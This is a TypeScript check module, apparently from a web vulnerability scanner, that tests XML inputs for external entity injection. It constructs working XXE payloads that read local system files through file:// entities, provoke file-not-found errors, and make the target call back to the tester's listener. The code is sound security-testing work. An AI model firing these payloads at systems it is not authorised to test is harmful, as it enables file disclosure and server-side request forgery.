/*
 * A parser that expands entities of a document itself is common and safe; it is asked first, for one request. Shown is an entity of another
 * place: a public file of the system, or our listener.
 */
import { visibleTextOf } from '#prober/application/looking/parse-html.ts';
import { askWith, confirmed, notConfirmed } from '#prober/checks/asking.ts';
import type { Check, CheckResult, Evidence, InputTrial, TriedValue } from '#prober/checks/check.ts';
import { lineOf, OS_RELEASE, SERVICES } from '#prober/checks/judging/system-files.ts';
import { faultIn } from './faults.ts';

export const xmlExternalEntities: Check = {
  id: 'live-xml-external-entities',
  title: 'External entities of XML',
  categories: ['xml external entities'],
  cwe: 611,
  severity: 'high',
  isPassive: false,
  fix: 'Switch off document types, or at least external entities, in the XML parser.',
  of: 'input',
  places: ['body', 'query', 'form', 'json', 'multipart', 'cookie', 'header'],
  run,
};

async function run(trial: InputTrial): Promise<CheckResult> {
  const takesXml = trial.finding !== undefined || /^\s*</.test(trial.usual) || (trial.parameter.place === 'body' && !/^\s*[[{]/.test(trial.usual)) || /xml|soap|svg/i.test(trial.parameter.name) || trial.parameter.place === 'multipart';
  if (!takesXml) return notConfirmed('Nothing: the parameter holds no XML.');
  const [one, other] = [trial.word('entity'), trial.word('entity-other')];
  const inner = await askWith(trial, valueOf(trial, `<!ENTITY whitebox1 "${one}"><!ENTITY whitebox2 "${other}">`, '&whitebox1;&whitebox2;'));
  const expands = inner?.response.body.includes(`${one}${other}`) === true;
  if (!expands && trial.finding === undefined) return notConfirmed('Entities of the document itself, which did not show.');
  const evidence = (await shownByFile(trial)) ?? (await shownByFault(trial)) ?? (await shownByCallback(trial));
  return evidence === undefined ? notConfirmed('Entities of a public file of the system, of one that is not there and, where there is a listener, of our own address.') : confirmed(evidence);
}

/** What parsers say of a file that they did not find: they looked for it. */
const FILE_FAULTS: readonly RegExp[] = [
  /failed to load (?:external entity|HTTP resource|"file:)/,
  /java\.io\.FileNotFoundException: [^\n<]{1,200}/,
  /\(No such file or directory\)|Could not find (?:a part of the path|file) [^\n<]{1,200}/,
];

/** The entity is not shown, and a fault is. */
async function shownByFault(trial: InputTrial): Promise<Evidence | undefined> {
  const attack = await askWith(trial, valueOf(trial, `<!ENTITY whitebox SYSTEM "file:///${trial.word('no-such-folder')}/${trial.word('no-such-file')}">`, '&whitebox;'));
  const text = attack === undefined ? undefined : faultIn(FILE_FAULTS, attack.response.body);
  if (attack === undefined || text === undefined) return undefined;
  const control = await askWith(trial, valueOf(trial, '<!ENTITY whitebox "">', '&whitebox;'));
  if (control === undefined || faultIn(FILE_FAULTS, control.response.body) !== undefined) return undefined;
  return { attack, control, effect: { kind: 'body-contains', text }, lookFor: `The complaint “${text}” in the answer to the first request: the parser looked for the file that the document names.` };
}

async function shownByFile(trial: InputTrial): Promise<Evidence | undefined> {
  for (const file of [OS_RELEASE, SERVICES]) {
    const attack = await askWith(trial, valueOf(trial, `<!ENTITY whitebox SYSTEM "file:///${file.path}">`, '&whitebox;'));
    const text = attack === undefined ? undefined : lineOf(file, attack.response.body);
    if (attack === undefined || text === undefined) continue;
    const control = await askWith(trial, valueOf(trial, '<!ENTITY whitebox "">', '&whitebox;'));
    if (control === undefined || lineOf(file, control.response.body) !== undefined) continue;
    return { attack, control, effect: { kind: 'body-contains', text }, lookFor: `The line “${text}” of /${file.path} in the answer to the first request: the parser read the file.` };
  }
  return undefined;
}

async function shownByCallback(trial: InputTrial): Promise<Evidence | undefined> {
  if (trial.callbacks === undefined) return undefined;
  const url = await trial.callbacks.urlFor(`xml-external-entities ${trial.word('entity-callback')}`);
  const attack = await askWith(trial, valueOf(trial, `<!ENTITY whitebox SYSTEM "${url}">`, '&whitebox;'));
  await trial.pause(CALLBACK_MS);
  if (attack === undefined || (await trial.callbacks.arrivals(url)).length === 0) return undefined;
  const control = await askWith(trial, valueOf(trial, '<!ENTITY whitebox "">', '&whitebox;'));
  return control === undefined ? undefined : { attack, control, effect: { kind: 'callback', url }, lookFor: `A request of the target to ${url}, which only the first document names.` };
}

const CALLBACK_MS = 1500;

/** A field of files takes the document as one, of the type that browsers give it. */
function valueOf(trial: InputTrial, declarations: string, reference: string): TriedValue {
  const text = documentWith(trial, declarations, reference);
  return trial.parameter.place === 'multipart' ? { file: { name: `whitebox-${trial.word('document')}.xml`, type: 'text/xml', text } } : text;
}

/** The usual document, or the smallest one, with declarations before it and the reference as the text of each element that has text alone. */
function documentWith(trial: InputTrial, declarations: string, reference: string): string {
  const usual = usualDocument(trial).replace(/^\s*<\?xml[^>]*\?>/, '').replace(/<!DOCTYPE[^>[]*(?:\[[^\]]*\])?\s*>/i, '').trim();
  const root = /^<([A-Za-z_][\w.:-]*)/.exec(usual)?.[1];
  const body = root === undefined ? `<whitebox>${reference}</whitebox>` : usual.replace(/(<[A-Za-z_][^<>]*(?<!\/)>)[^<>]*<\//g, (_whole, opening: string) => `${opening}${reference}</`);
  return `<?xml version="1.0"?><!DOCTYPE ${root ?? 'whitebox'} [${declarations}]>${body}`;
}

/** A value that the application gave, else what its page shows. */
function usualDocument(trial: InputTrial): string {
  const own = /^\s*</.test(trial.usual) ? trial.usual : '';
  return own !== '' && trial.parameter.example !== undefined ? own : (shownDocument(trial) ?? own);
}

/** What the form's page shows people as an example: who reads names and orders out of a document shows nothing of another one. */
function shownDocument(trial: InputTrial): string | undefined {
  const { url } = trial.requestWith(trial.usual);
  const own = new URL(trial.route.formPage ?? url, url).pathname;
  const [page] = trial.pages.filter(({ request }) => new URL(request.url).pathname === own);
  return page === undefined ? undefined : DOCUMENT.exec(visibleTextOf(page.response.body.slice(0, PAGE_LIMIT)))?.[0];
}

const PAGE_LIMIT = 200_000;
const DOCUMENT = /<([A-Za-z_][\w.:-]{0,60})(?:\s[^<>]{0,200})?>\s{0,20}<[A-Za-z_][^]{1,3000}?<\/\1>/;
